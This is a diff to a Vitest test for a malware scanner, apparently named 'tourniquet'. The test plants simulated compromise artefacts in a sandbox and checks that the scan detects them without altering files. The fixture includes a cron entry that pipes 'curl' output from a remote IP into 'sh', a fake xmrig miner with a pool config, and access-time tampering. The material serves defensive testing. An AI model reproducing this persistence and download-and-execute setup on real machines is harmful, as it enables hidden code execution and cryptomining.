@@ -1,18 +1,23 @@
+import { lstatSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { type Sandbox, startSandbox } from '../../src/drill/sandbox.ts';
 import type { ScanOutcome } from '../../src/findings/scan.ts';
 import { runTool } from '../../src/host/run-tool.ts';
 import { textInside } from '../drill/inside.ts';
-import { tourniquet } from './program.ts';
+import { run } from './program.ts';
 
 const EVERYTHING = join(import.meta.dirname, 'everything-here.ts');
-const FOLDERS =
-  '/etc /root /home /var /srv /opt /usr/local /usr/bin /usr/sbin /tmp /dev/shm /run /boot'.split(' ');
+const FOLDERS = '/etc /root /home /var /srv /opt /usr/local /tmp /dev/shm /run /boot'.split(' ');
 const isRoot = process.getuid?.() === 0;
+
+const OWN = join(import.meta.dirname, '..', '..', 'dist');
+/** Without the launcher, which builds it where it is stale. */
+const tourniquet = [process.execPath, join(OWN, 'main.js')];
 
 let sandbox: Sandbox;
 beforeAll(async () => {
+  expect(run(['--version']).code).toBe(0);
   sandbox = await startSandbox({ scenario: 'none' });
   await textInside(
     sandbox,
@@ -21,7 +26,7 @@ cp "$(command -v sleep)" /tmp/.x/xmrig
 printf '* * * * * root curl -s http://198.51.100.7/x.sh | sh\\n' > /etc/cron.d/updates
 printf '{"pools":[{"url":"pool.supportxmr.com:3333"}],"donate-level":1}' > /tmp/.x/config.json
 chmod 600 /etc/cron.d/updates
-touch -a -d 2001-01-01 /tmp/.x/* /etc/cron.d/updates /etc/passwd
+touch -a -d 2001-01-01 /tmp/.x/* /etc/cron.d/updates
 cp /etc/cron.d/updates /root/canary; touch -a -d 2001-01-01 /root/canary
 setsid /tmp/.x/xmrig 600 > /dev/null 2>&1 < /dev/null &`,
   );
@@ -35,17 +40,27 @@ async function inside(argv: readonly string[]): Promise<string> {
   return run.stdout.toString();
 }
 
+type Everything = Readonly<Record<string, string>>;
+
+async function everything(): Promise<Everything> {
+  return JSON.parse(await inside([process.execPath, EVERYTHING, ...FOLDERS])) as Everything;
+}
+
 /**
- * All that is the sandbox's own: what was put there, and what anything inside has written to, which makes it a file of
- * the layer above this machine's own disk. Below that others may be at work.
+ * What has changed in the sandbox. Its disk is a layer above this machine's own, where others may be at work: what
+ * is as new outside was changed there, since what is changed inside is so only inside.
  */
-async function everything(): Promise<Record<string, string>> {
-  const all = JSON.parse(await inside([process.execPath, EVERYTHING, ...FOLDERS])) as Record<string, string>;
-  const deviceOf = (path: string): string => all[path]?.split(' ')[0] ?? '';
-  const own = new Set(['/root/canary', '/etc/cron.d/updates', '/tmp', '/run', '/dev/shm'].map(deviceOf));
-  return Object.fromEntries(
-    Object.entries(all).filter(([path]) => path.startsWith('process ') || own.has(deviceOf(path))),
-  );
+function changed(before: Everything, after: Everything): string[] {
+  return [...new Set([...Object.keys(before), ...Object.keys(after)])].filter((path) => {
+    // Node's cache of what it compiled lies in the program's own folder (build.mjs).
+    if (before[path] === after[path] || `${OWN}/`.startsWith(`${path}/`)) return false;
+    if (!path.startsWith('/')) return true;
+    const [, , , , , , , mtimeNs = '', ctimeNs = ''] = after[path]?.split(' ') ?? [];
+    const outside = lstatSync(path, { bigint: true, throwIfNoEntry: false });
+    if (after[path] === undefined || outside === undefined)
+      return outside !== undefined || after[path] !== undefined;
+    return outside.mtimeNs < BigInt(mtimeNs) || outside.ctimeNs < BigInt(ctimeNs);
+  });
 }
 
 describe('tourniquet scan', () => {
@@ -53,7 +68,7 @@ describe('tourniquet scan', () => {
     const before = await everything();
     const outcome = JSON.parse(await inside([...tourniquet, 'scan', '--json'])) as ScanOutcome;
     const after = await everything();
-    expect(after).toEqual(before);
+    expect(changed(before, after).map((path) => [path, before[path], after[path]])).toEqual([]);
     // It has read them all the same.
     const found = outcome.findings.filter(({ verdict }) => verdict === 'malicious').map(({ title }) => title);
     expect(found.join('\n')).toMatch(/cron\.d\/updates/);
@@ -61,10 +76,9 @@ describe('tourniquet scan', () => {
     expect(Object.keys(before)).toEqual(expect.arrayContaining(['/etc/cron.d/updates', '/tmp/.x/xmrig']));
     // And a trace would have shown: of reading, and of writing to what was the machine's.
     await textInside(sandbox, 'cat /root/canary; cd /etc; cat profile > /run/x; cat /run/x > profile');
-    const traced = await everything();
-    expect(traced['/root/canary']).not.toBe(before['/root/canary']);
-    expect(before['/etc/profile']).toBe(undefined);
-    expect(traced['/etc/profile']).not.toBe(undefined);
+    expect(changed(after, await everything())).toEqual(
+      expect.arrayContaining(['/root/canary', '/etc/profile', '/run/x', '/run']),
+    );
   }, 240_000);
 
   it.runIf(isRoot)(
